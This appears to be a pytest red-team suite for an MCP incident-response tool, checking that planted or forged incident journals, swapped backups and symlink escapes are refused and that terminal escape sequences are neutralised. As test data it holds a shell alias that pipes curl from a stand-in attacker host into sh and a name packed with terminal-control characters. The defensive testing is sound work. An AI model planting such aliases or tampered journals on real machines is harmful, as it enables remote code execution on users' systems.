"""Red team: a repository that plants or tampers with incidents under `.atom-trail/`.

`.atom-trail/` travels with the repository, so everything in it may be crafted. `mcpir restore`
(and `report`, `close`, `--resume`, `posture`) must act only on incidents this user's mcpir
opened on this machine, and must never write outside the incident's home and root.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from mcpir.incident.journal import Journal
from mcpir.incident.trust import seal
from tests.conftest import FIXTURES, RunCli
from tests.treehash import tree_state

PLANTED = "ATOM-INC-20991231-999-planted"
PAYLOAD = "alias ls='curl -s https://evil.example/x | sh'\n"


@pytest.fixture
def machine(tmp_path: Path) -> tuple[Path, Path]:
    home, root = tmp_path / "home", tmp_path / "project"
    for rel in (".cursor/mcp.json", ".claude.json"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(FIXTURES / "homes" / "linux" / rel, home / rel)
    shutil.copytree(FIXTURES / "project", root)
    (root / "packages" / "broken" / ".cursor" / "mcp.json").unlink()
    return home, root


def contain(run_cli: RunCli, home: Path, root: Path) -> str:
    result = run_cli("respond", "--only", "contain", "--yes", "--json", "--home", home,
                     "--root", root, "--title", "poisoned")  # fmt: skip
    assert result.code == 0, result.stderr
    return str(json.loads(result.stdout)["incident"])


def plant(root: Path, home: Path, records: list[dict[str, object]], name: str = PLANTED) -> Path:
    """An incident as a malicious commit would ship it: the files, no key."""
    folder = root / ".atom-trail" / "incidents" / name
    folder.mkdir(parents=True, exist_ok=True)
    (root / "payload.txt").write_text(PAYLOAD)
    header = {"ts": "2099-12-31T23:59:59.000+00:00", "type": "incident-opened", "id": name,
              "title": "x", "home": str(home), "root": str(root)}  # fmt: skip
    lines = [json.dumps(r) for r in [header, *records]]
    (folder / "journal.jsonl").write_text("\n".join(lines) + "\n")
    return folder


def rename_into_home(home: Path, root: Path) -> list[dict[str, object]]:
    target = str(root / "payload.txt")
    digest = hashlib.sha256(PAYLOAD.encode()).hexdigest()
    return [
        {"type": "change", "change": 1, "op": "rename", "path": str(home / ".bash_aliases"),
         "target": target, "before": digest, "after": digest, "mode": 420, "servers": []},
        {"type": "applied", "change": 1},
    ]  # fmt: skip


def test_a_planted_future_incident_is_never_the_latest_and_writes_nothing(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    real = contain(run_cli, home, root)
    plant(root, home, rename_into_home(home, root))
    restored = run_cli("restore", "--root", root, "--json")
    assert not (home / ".bash_aliases").exists() and (root / "payload.txt").exists()
    assert restored.code == 0, restored.stderr
    assert json.loads(restored.stdout)["incident"] == real


def test_naming_a_planted_incident_is_refused_in_one_line(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    plant(root, home, rename_into_home(home, root))
    before = tree_state(root), tree_state(home)
    for command in (("restore",), ("restore", "--force"), ("report",), ("close", "--reason", "x")):
        result = run_cli(*command[:1], PLANTED, *command[1:], "--root", root)
        assert result.code == 2, (command, result.stderr)
        assert "not opened by mcpir on this machine" in result.stderr
        assert "Traceback" not in result.stderr and len(result.stderr.splitlines()) <= 2
    assert (tree_state(root), tree_state(home)) == before
    # With no incident of its own, "the latest" is none of them.
    latest = run_cli("restore", "--root", root)
    assert latest.code == 2 and "opened by mcpir on this machine" in latest.stderr
    listed = json.loads(run_cli("report", "--list", "--json", "--root", root).stdout)
    assert [(r["id"], r["status"]) for r in listed["incidents"]] == [(PLANTED, "untrusted")]


def test_a_record_forged_into_a_real_journal_is_ignored(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    """Copying a sealed record and changing its path breaks its MAC; so does sealing it for
    another incident. Either way restore undoes exactly what mcpir did."""
    home, root = machine
    real = contain(run_cli, home, root)
    journal = root / ".atom-trail" / "incidents" / real / "journal.jsonl"
    records = [json.loads(line) for line in journal.read_text().splitlines()]
    change = next(r for r in records if r["type"] == "change")
    forged = {**change, "change": 99, "path": str(home / ".bash_aliases")}
    other = seal("ATOM-INC-20261207-002-other", {**change, "change": 98})
    with journal.open("a") as stream:
        for record in (forged, other, {"type": "applied", "change": 99}):
            stream.write(json.dumps(record) + "\n")
    restored = run_cli("restore", "--root", root, real, "--json")
    assert restored.code == 0, restored.stderr
    assert not (home / ".bash_aliases").exists()
    assert Journal(journal.parent).records() and Journal(journal.parent).untrusted == 0


def test_even_a_sealed_change_outside_home_and_root_is_refused(
    run_cli: RunCli, machine: tuple[Path, Path], tmp_path: Path
) -> None:
    """Defence in depth: were the key stolen, a journal still cannot reach outside its trees."""
    home, root = machine
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    escape = root / "link-out"
    escape.symlink_to(outside)  # inside root by name, outside once resolved
    for path in (home.parent / ".bashrc", escape / ".bashrc", root / ".." / "x" / ".bashrc"):
        folder = root / ".atom-trail" / "incidents" / PLANTED
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        journal = Journal(folder)
        journal.append({"type": "incident-opened", "home": str(home), "root": str(root)})
        (root / "payload.txt").write_text(PAYLOAD)
        journal.append({"type": "change", "change": 1, "op": "rename", "path": str(path),
                        "target": str(root / "payload.txt"), "before": None, "after": None,
                        "mode": 420, "servers": []})  # fmt: skip
        journal.append({"type": "applied", "change": 1})
        result = run_cli("restore", PLANTED, "--root", root, "--force")
        assert result.code == 2, result.stderr
        assert "outside the incident's home and root" in result.stderr
        assert not (outside / ".bashrc").exists() and not path.exists()


@pytest.mark.parametrize(
    "record",
    [
        {"type": "change", "change": "x", "op": "edit", "path": "/a"},
        {"type": "change", "change": 1, "op": "edit", "path": 7},
        {"type": "change", "change": 1, "op": "explode", "path": "/a"},
        {"type": "change", "change": 1, "op": "rename", "path": "/a"},
        {"type": "change", "change": 1, "op": "edit", "path": "/a", "before": "zz"},
        {"type": "change", "change": 1, "op": "edit", "path": "/a", "servers": "github"},
        {"type": "change", "change": 1, "op": "edit", "path": "relative/path"},
    ],
)
def test_a_malformed_record_is_one_line(
    run_cli: RunCli, tmp_path: Path, record: dict[str, object]
) -> None:
    root = tmp_path
    folder = root / ".atom-trail" / "incidents" / PLANTED
    folder.mkdir(parents=True)
    journal = Journal(folder)
    journal.append({"type": "incident-opened", "home": "/", "root": "/"})
    journal.append(record)
    result = run_cli("restore", PLANTED, "--root", root)
    assert result.code == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith("mcpir: error:") and len(result.stderr.splitlines()) <= 2


def test_a_swapped_backup_is_never_written_back(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    real = contain(run_cli, home, root)
    claude = home / ".claude.json"
    contained = claude.read_bytes()
    backups = root / ".atom-trail" / "incidents" / real / "backups"
    swapped = next(backups.glob("*-before-.claude.json"))
    swapped.write_text('{"mcpServers": {"evil": {"command": "sh"}}}')
    for force in ((), ("--force",)):
        result = run_cli("restore", "--root", root, *force)
        assert result.code == 3, result.stderr
        assert "does not match the journal" in result.stderr
        assert claude.read_bytes() == contained  # all or nothing: no file touched
        assert (root / ".mcp.json.mcpir-disabled").exists()
    # A backup replaced by a link to another file is no better.
    swapped.unlink()
    swapped.symlink_to(home / ".cursor" / "mcp.json.mcpir-disabled")
    assert run_cli("restore", "--root", root).code == 3 and claude.read_bytes() == contained


def test_force_restores_the_original_and_keeps_an_edited_disabled_copy(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    original = (root / ".mcp.json").read_bytes()
    contain(run_cli, home, root)
    disabled = root / ".mcp.json.mcpir-disabled"
    disabled.write_text('{"mcpServers": {"edited": {"command": "node"}}}')
    refused = run_cli("restore", "--root", root)
    assert refused.code == 1 and "was edited since" in refused.stderr
    forced = run_cli("restore", "--root", root, "--force", "--json")
    assert forced.code == 0, forced.stderr
    assert (root / ".mcp.json").read_bytes() == original
    kept = root / ".mcp.json.mcpir-conflict"
    assert kept.read_text() == '{"mcpServers": {"edited": {"command": "node"}}}'
    assert not disabled.exists()
    assert str(kept) in json.loads(forced.stdout)["kept"]


def test_force_restores_a_disabled_copy_that_vanished_from_its_backup(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    original = (root / ".mcp.json").read_bytes()
    contain(run_cli, home, root)
    (root / ".mcp.json.mcpir-disabled").unlink()
    assert run_cli("restore", "--root", root).code == 1
    assert run_cli("restore", "--root", root, "--force").code == 0
    assert (root / ".mcp.json").read_bytes() == original


def _mcpir(*args: str | Path, crash_at: int = 0) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "MCPIR_TEST_CRASH_AT": str(crash_at)}
    return subprocess.run([sys.executable, "-m", "mcpir", *map(str, args)], capture_output=True,
                          text=True, env=env, check=False, timeout=60)  # fmt: skip


@pytest.mark.skipif(sys.platform == "win32", reason="SIGKILL is POSIX")
def test_a_crash_during_restore_leaves_no_readable_copy_and_a_rerun_cleans_up(
    tmp_path: Path,
) -> None:
    crashes = 0
    for point in range(1, 12):
        home, root = tmp_path / f"{point}" / "home", tmp_path / f"{point}" / "root"
        home.mkdir(parents=True)
        root.mkdir()
        shutil.copy2(FIXTURES / "homes" / "linux" / ".claude.json", home / ".claude.json")
        os.chmod(home / ".claude.json", 0o644)
        original = tree_state(home)
        contain = _mcpir("respond", "--only", "contain", "--yes", "--home", home, "--root", root)
        assert contain.returncode == 0, contain.stderr
        crashed = _mcpir("restore", "--root", root, crash_at=point)
        if crashed.returncode == 0:
            break
        assert crashed.returncode == -9, crashed.stderr
        crashes += 1
        for leftover in home.glob(".*.mcpir-tmp"):
            assert stat.S_IMODE(leftover.stat().st_mode) == 0o600, (point, leftover)
        rerun = _mcpir("restore", "--root", root)
        assert rerun.returncode == 0, (point, rerun.stderr)
        assert not list(home.glob(".*.mcpir-tmp")), point
        assert tree_state(home) == original
    assert crashes >= 2


def test_posture_counts_only_incidents_opened_here(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    plant(root, home, [])
    real = contain(run_cli, home, root)
    summary = root / ".atom-trail" / "incidents" / real / "incident.json"
    summary.write_text(summary.read_text().replace('"status": "open"', '"status": "closed"'))
    items = {i["id"]: i for i in json.loads(run_cli("posture", "--json", "--home", home,
                                                     "--root", root).stdout)}  # fmt: skip
    item = items["open-incidents"]
    assert item["status"] == "fail" and real in item["evidence"]
    assert PLANTED not in item["evidence"] and "1 of 1" in item["evidence"]


def test_every_directory_mcpir_makes_is_private(
    run_cli: RunCli, machine: tuple[Path, Path]
) -> None:
    home, root = machine
    state = Path(os.environ["MCPIR_HOME"])
    shutil.rmtree(state)
    old = os.umask(0o022)
    try:
        assert run_cli("respond", "--dry-run", "--home", home, "--root", root).code in (0, 1)
        contain(run_cli, home, root)
    finally:
        os.umask(old)
    made = [state, *(p for p in state.rglob("*") if p.is_dir())]
    assert state / "cache" / "playbooks" in made
    assert {p: oct(stat.S_IMODE(p.stat().st_mode)) for p in made} == dict.fromkeys(made, "0o700")
    trail = root / ".atom-trail"
    dirs = [trail, *(p for p in trail.rglob("*") if p.is_dir())]
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in dirs} == {"0o700"}


HOSTILE_NAME = "evil\x1b[31mred\x07\u202etxt.exe\x1b]0;owned\x07"


def test_hostile_server_names_are_escaped_in_the_incident_document(
    run_cli: RunCli, tmp_path: Path
) -> None:
    home, root = tmp_path / "home", tmp_path / "project"
    home.mkdir()
    root.mkdir()
    servers = {HOSTILE_NAME: {"command": "node", "args": ["x.js"]}, "ok": {"command": "node"}}
    (root / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    incident = contain(run_cli, home, root)
    document = root / ".atom-trail" / "incidents" / incident / f"{incident}.md"
    report = run_cli("report", incident, "--root", root)
    assert report.code == 0, report.stderr
    texts = [report.stdout]
    if document.exists():
        texts.append(document.read_text())
    assert any("evil" in text for text in texts)
    for text in texts:
        assert not {"\x1b", "\x07", "\u202e"} & set(text), text
    assert "\\x1b" in report.stdout


def test_a_huge_server_name_is_cut_to_one_cell(run_cli: RunCli, tmp_path: Path) -> None:
    home, root = tmp_path / "home", tmp_path / "project"
    home.mkdir()
    root.mkdir()
    servers = {"x" * 5000: {"command": "node", "args": ["visible-arg.js"]}}
    (root / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    result = run_cli("servers", "--home", home, "--root", root)
    assert result.code == 0, result.stderr
    assert "visible-arg.js" in result.stdout and "stdio" in result.stdout
    assert max(len(line) for line in result.stdout.splitlines()) <= 200
